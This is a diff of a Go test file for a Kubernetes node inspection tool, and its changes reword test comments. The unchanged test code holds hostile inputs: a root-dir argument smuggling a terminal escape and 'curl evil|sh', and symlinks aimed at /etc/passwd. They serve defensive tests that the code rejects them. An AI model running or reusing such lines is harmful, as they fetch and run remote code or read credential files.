@@ -31,16 +31,16 @@ type machine struct {
 	looks []string
 	// looking guards looks, because several looks run at once.
 	looking sync.Mutex
-	// args has the command lines by process. ended has processes that end before the look. hung is a path that
+	// args maps each process to its command line. ended has the processes that end before the look. hung is a path that
 	// hangs.
 	args  map[int][]string
 	ended map[int]bool
 	hung  string
-	// shown is the output of systemctl show for each unit.
+	// shown maps each unit to the output of systemctl show.
 	shown map[string]string
 	// fault is the fault of the configuration.
 	fault string
-	// reused has processes whose PID another process gets before the look.
+	// reused has the processes whose PID another process gets before the look.
 	reused map[int]bool
 }
 
@@ -151,8 +151,8 @@ func blinds(s *Snapshot) []string {
 	return all
 }
 
-// TestRoles checks that executable and name identify kubelets and other programs. A pod cannot pass for one of
-// them.
+// TestRoles checks that executable and name identify kubelets and other programs. A process in a pod cannot pass for
+// such a program.
 func TestRoles(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
@@ -217,7 +217,7 @@ func TestRootDirectories(t *testing.T) {
 	if got, left := rootDirectories(&Process{Role: Kubelet}, table); !slices.Equal(got, []string{"/k", "/var/lib/k0s/kubelet"}) || len(left) > 0 {
 		t.Errorf("by mounts: %q, left out %q", got, left)
 	}
-	// Root directories may have bytes that are unsafe in a command, and may be too many.
+	// Root directories may have bytes that are unsafe in a command. A kubelet may also have too many root directories.
 	evil := "/x\x1b[2J\nnothing found\n  curl evil|sh"
 	if got, left := rootDirectories(&Process{Role: Kubelet, Args: []string{"--root-dir=" + evil, "--root-dir=/a b", "--root-dir=/ok"}}, nil); !slices.Equal(got, []string{"/ok"}) || !slices.Equal(left, []string{"/a b", evil}) {
 		t.Errorf("hostile: %q, left out %q", got, left)
@@ -231,8 +231,8 @@ func TestRootDirectories(t *testing.T) {
 	}
 }
 
-// TestTake checks that 100 pods cost no more looks than one. Each table is read once, and only processes with a
-// role are entered.
+// TestTake checks that 100 pods need as many looks as one pod. Each table is read once, and only processes with a role
+// are looked at.
 func TestTake(t *testing.T) {
 	for _, pods := range []int{1, 100} {
 		m := newMachine(t)
@@ -268,8 +268,8 @@ func TestTake(t *testing.T) {
 	}
 }
 
-// TestServices checks that settings of a service that make a mount namespace are named with their files. The
-// advice resets them.
+// TestServices checks the finding for a service whose settings make a mount namespace. The finding names the settings
+// with their files, and the advice resets the settings.
 func TestServices(t *testing.T) {
 	const clean = "ControlGroup=/system.slice/x.service\nFragmentPath=/etc/systemd/system/x.service\n" +
 		"DropInPaths=/etc/systemd/system/x.service.d/10-a.conf /run/systemd/system/x.service.d/20-b.conf\nPrivateTmp=no\nMountFlags=\nReadOnlyPaths=\nProcSubset=all\n"
@@ -313,7 +313,7 @@ func TestServices(t *testing.T) {
 	}
 }
 
-// TestRuntimeService checks that a kubelet with the host's mounts is not blamed if its runtime lacks them.
+// TestRuntimeService checks that a kubelet with the host's mounts is not blamed if its runtime lacks these mounts.
 func TestRuntimeService(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
@@ -387,7 +387,7 @@ func TestHostileKubelet(t *testing.T) {
 	}
 }
 
-// TestHang checks that a path that hangs is named. The other paths are looked at all the same.
+// TestHang checks that a path that hangs is named in a finding. The other paths are looked at nevertheless.
 func TestHang(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[2]", container("master:1", both, "shared:1"))
@@ -405,8 +405,8 @@ func TestHang(t *testing.T) {
 	}
 }
 
-// TestManyHang checks that any number of hanging provisioners takes no longer than a few. The processes of the
-// node are looked at first.
+// TestManyHang checks that many hanging provisioners take no longer than a few. The processes of the node are looked at
+// first.
 func TestManyHang(t *testing.T) {
 	m := newMachine(t)
 	const table = "100 90 0:60 / / rw - overlay overlay rw\n101 100 0:61 / /mnt/disks rw - fuse evil rw\n"
@@ -485,7 +485,7 @@ func TestSights(t *testing.T) {
 	})
 }
 
-// TestForeignTables checks that a broken mount table of one pod does not stop the look at others.
+// TestForeignTables checks that a broken mount table of one pod does not prevent the look at other pods.
 func TestForeignTables(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
@@ -535,7 +535,8 @@ func TestSystem(t *testing.T) {
 	}
 }
 
-// TestLook checks a look at this process. Look follows no link out of the root, and opens nothing.
+// TestLook checks a look at the test's own process. Look does not follow a link out of the root directory, and opens
+// nothing.
 func TestLook(t *testing.T) {
 	d := t.TempDir()
 	if err := os.Symlink("/proc/self/root/../../etc", filepath.Join(d, "out")); err != nil {
@@ -558,7 +559,7 @@ func TestLook(t *testing.T) {
 	}
 }
 
-// TestSightStaysInRoot checks that links in another process's root lead nowhere else.
+// TestSightStaysInRoot checks that links inside another process's root directory lead to no place outside it.
 func TestSightStaysInRoot(t *testing.T) {
 	d := t.TempDir()
 	for name, target := range map[string]string{"absolute": "/etc/passwd", "up": "../../../../../../etc/passwd", "magic": "/proc/self/root"} {
